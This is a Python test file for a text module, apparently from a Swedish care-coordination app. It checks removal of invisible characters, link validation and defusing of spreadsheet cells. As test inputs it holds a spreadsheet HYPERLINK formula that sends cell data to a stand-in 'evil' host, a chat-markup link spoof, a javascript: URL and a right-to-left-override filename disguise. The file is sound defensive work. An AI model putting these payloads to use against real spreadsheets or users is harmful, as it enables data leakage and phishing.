"""A person's text kept clean, links checked, spreadsheet cells defused (domain/text.py)."""

import pytest

from domain.needs import Draft, errors_for
from domain.text import clean, is_link, spreadsheet_text

FLAG_SCOTLAND = "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("\u200b\u200b", ""),  # zero-width spaces
        ("\ufeff", ""),  # byte order mark
        ("\u00a0\u00a0", ""),  # non-breaking spaces
        ("\u2060\u00ad\u200e", ""),  # word joiner, soft hyphen, left-to-right mark
        ("Vård\u202e för äldre", "Vård för äldre"),  # right-to-left override
        ("\u2067Vård\u2069", "Vård"),  # bidi isolates
        ("Bättre\u00a0samordning", "Bättre samordning"),
        ("Mobila\u202fteam", "Mobila team"),  # narrow no-break space
        ("Nul\x00l och klocka\x07", "Null och klocka"),
        ("Rad ett\nRad två\tmed tab", "Rad ett\nRad två\tmed tab"),
        ("ab\u200dcd", "abcd"),  # a joiner between letters joins nothing
        ("\U000e0041\U000e0042gömd text", "gömd text"),  # tags outside a flag
    ],
)
def test_invisible_characters_are_dropped_and_odd_spaces_are_spaces(typed, kept):
    assert clean(typed) == kept


@pytest.mark.parametrize(
    "text",
    [
        "Åtgärder för äldre 👵 på Öckerö",
        "Kodstuga 👩‍💻 för personal",  # ZWJ sequence
        "Familjen 👨‍👩‍👧 i fokus",
        "Prideflagga 🏳️‍🌈",  # emoji, presentation selector, ZWJ
        "Vårdpersonal 🧑🏽‍⚕️",  # skin tone, ZWJ, then a symbol with its selector
        "❤️‍🔥 Engagemang",
        f"Samarbete med {FLAG_SCOTLAND}",  # tag sequence of a subdivision flag
        "Citat: ”så här” – och så vidare…",
    ],
)
def test_swedish_text_and_emoji_are_kept_whole(text):
    assert clean(text) == text


def test_an_invisible_title_or_description_is_missing(ref):
    draft = Draft(title=clean("\u200b\u00a0\ufeff"), description=clean("\u202e"))
    errors = errors_for(draft, ref)
    assert errors["title"] == "form.error.title_missing"
    assert errors["description"] == "form.error.description_missing"


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/slutrapport.pdf",
        "http://intranet.vgregion.se/rapport",
        "HTTPS://EXAMPLE.ORG",
        "https://vårdsamverkan.se/produkt?id=1&sida=2#del",
    ],
)
def test_real_web_addresses_are_links(url):
    assert is_link(url)


@pytest.mark.parametrize(
    "url",
    [
        "https://x.se/><!channel>",
        "https://x.se/><https://evil.example/|https://vardsamverkan.se/>",
        "https://x.se/a|b",
        "https://x.se/<b",
        "https://x.se/rapport 2026.pdf",
        "https://x.se/\u00a0",
        "https://x.se/\trapport",
        "https://x.se/\x00",
        "https://x.se/\u202efdp.exe",
        "https://x.se/\u200b",
        "javascript:alert(1)",
        "ftp://example.org/fil",
        "mailto:anna@example.org",
        "https://",
        "https:///path",
        "https://[::1",
        "example.org",
        "https://example.org/" + "x" * 500,
        "",
        None,
    ],
)
def test_anything_else_is_not_a_link(url):
    assert not is_link(url)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("https://evil"&A1,"Klicka här")',
            '\'=HYPERLINK("https://evil"&A1,"Klicka här")',
        ),
        ("+46 70", "'+46 70"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-1+2", "'-1+2"),
        ("- en punkt", "- en punkt"),
        ("Vanlig titel", "Vanlig titel"),
        ("", ""),
    ],
)
def test_spreadsheet_text_is_never_a_formula(text, cell):
    assert spreadsheet_text(text) == cell
